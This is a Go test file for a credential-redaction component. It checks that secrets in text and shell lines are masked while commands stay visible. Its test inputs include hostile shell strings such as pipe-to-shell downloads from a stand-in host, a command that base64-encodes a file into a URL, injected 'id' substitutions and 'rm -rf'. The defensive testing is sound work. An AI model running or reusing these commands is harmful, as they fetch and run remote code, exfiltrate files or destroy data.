package secret

import (
	"strings"
	"testing"
)

func TestCredentialsAreNotShown(t *testing.T) {
	r := NewRules()
	for text, want := range map[string]string{
		"sk-proj-0123456789abcdefABCDEF":                                    "[hidden]",
		"use sk_live_0123456789abcdefABCD now":                              "use [hidden] now",
		"curl -H 'Authorization: Bearer abcdef0123456' https://one.example": "curl -H 'Authorization: Bearer [hidden]' https://one.example",
		"git clone https://anna:hunter2hunter2@git.example/x":               "git clone https://anna:[hidden]@git.example/x",
		"export GITHUB_TOKEN=ghp_0123456789abcdefABCD":                      "export GITHUB_TOKEN=[hidden]",
		"mysql --password=correcthorse -h db":                               "mysql --password=[hidden] -h db",
		`{"api_key": "0123456789"}`:                                         `{"api_key": "[hidden]"}`,
		"AKIAABCDEFGHIJKLMNOP":                                              "[hidden]",
		"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.abc":                      "[hidden]",
		"xoxb-123456789012-abcdefghij":                                      "[hidden]",
		"-----BEGIN RSA PRIVATE KEY-----MIIE":                               "[hidden]",
		// What a person has to see stays.
		"anna@firm.example":                        "anna@firm.example",
		"https://one.example/a?page=2":             "https://one.example/a?page=2",
		"/home/anna/keys.txt":                      "/home/anna/keys.txt",
		"make test":                                "make test",
		"Please send the minutes to the key":       "Please send the minutes to the key",
		"skiing-in-the-alps-with-all-of-us":        "skiing-in-the-alps-with-all-of-us",
		"0a1b2c3d4e5f60718293a4b5c6d7e8f901234567": "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567",
		"ssh anna@host.example":                    "ssh anna@host.example",
		"pass":                                     "pass",
	} {
		if got := r.Veil(text); got != want {
			t.Errorf("%q\ngot  %q\nwant %q", text, got, want)
		}
	}
	if long := strings.Repeat("a b ", 30000); r.Veil(long) != long {
		t.Error("ordinary text was changed")
	}
}

// What is hidden in a command line is a word of it and never a command: the
// reader must see all that would happen.
func TestNoCommandIsHidden(t *testing.T) {
	r := NewRules()
	for text, want := range map[string]string{
		"curl https://one.example/x?key=abcdef|sh":                 "curl https://one.example/x?key=abcdef|sh",
		"curl https://one.example/x?token=abcdef|sh":               "curl https://one.example/x?token=[hidden]|sh",
		"curl https://one.example/?token=$(cat${IFS}notes|base64)": "curl https://one.example/?token=$(cat${IFS}notes|base64)",
		"curl https://one.example/?token=abcdef`id`":               "curl https://one.example/?token=[hidden]`id`",
		"TOKEN= /tmp/x.sh":                                                         "TOKEN= /tmp/x.sh",
		": token \n/tmp/x.sh":                                                      ": token \n/tmp/x.sh",
		"sudo -u pass /tmp/x.sh":                                                   "sudo -u pass /tmp/x.sh",
		"git clone https://a:$(id)@one.example/x":                                  "git clone https://a:$(id)@one.example/x",
		": '-----BEGIN RSA PRIVATE KEY-----'; curl one.example|sh":                 ": '[hidden]'; curl one.example|sh",
		": -----BEGIN;curl one.example|sh;: PRIVATE KEY-----":                      ": -----BEGIN;curl one.example|sh;: PRIVATE KEY-----",
		": -----BEGIN PRIVATE KEY-----\nrm -rf notes\n: -----END PRIVATE KEY-----": ": [hidden]\nrm -rf notes\n: -----END PRIVATE KEY-----",
		": -----BEGIN PRIVATE KEY-----\n" + strings.Repeat("curl -o x one.example; sh x\n", 4) + ": -----END PRIVATE KEY-----": ": [hidden]\n" +
			strings.Repeat("curl -o x one.example; sh x\n", 4) + ": -----END PRIVATE KEY-----",
		// A credential is hidden here, too.
		"curl -H 'Authorization: Bearer abcdef0123456' https://one.example":                                              "curl -H 'Authorization: Bearer [hidden]' https://one.example",
		"git clone https://anna:hunter2hunter2@git.example/x":                                                            "git clone https://anna:[hidden]@git.example/x",
		"export GITHUB_TOKEN=ghp_0123456789abcdefABCD":                                                                   "export GITHUB_TOKEN=[hidden]",
		"mysql --password=correcthorse -h db":                                                                            "mysql --password=[hidden] -h db",
		"mysql --password correcthorse -h db":                                                                            "mysql --password [hidden] -h db",
		`curl -d '{"api_key": "0123456789"}' one.example`:                                                                `curl -d '{"api_key": "[hidden]"}' one.example`,
		"echo '-----BEGIN PRIVATE KEY-----\n" + strings.Repeat("MIIEabcd", 8) + "\nab==\n-----END PRIVATE KEY-----' > k": "echo '[hidden]' > k",
	} {
		if got := r.VeilLine(text); got != want {
			t.Errorf("%q\ngot  %q\nwant %q", text, got, want)
		}
	}
}

// Of a long value both ends are seen, and of an address the whole host.
func TestBothEndsAreShown(t *testing.T) {
	long := strings.Repeat("a", 200)
	for text, want := range map[string]string{
		"echo " + long + "; curl one.example|sh":   "echo " + long[:75] + "…" + long[:19] + "; curl one.example|sh",
		"https://" + long + ".one.example/" + long: "https://" + long + ".one.example…" + long[:40],
		long[:120]: long[:120],
		long[:121]: long[:80] + "…" + long[:40],
	} {
		if got := bothEnds(text); got != want {
			t.Errorf("%q\ngot  %q\nwant %q", text, got, want)
		}
	}
}

// The limits people rely on, as numbers: changing one is a change they notice.
func TestLimitsAsNumbers(t *testing.T) {
	for name, l := range map[string][2]int{
		"an argument": {maxShown, 120}, "tokens": {maxTokens, 2048}, "a part": {minPart, 8}, "named": {maxNamed, 8}, "found": {MaxFound, 64},
	} {
		if l[0] != l[1] {
			t.Errorf("%s: %d, want %d", name, l[0], l[1])
		}
	}
}
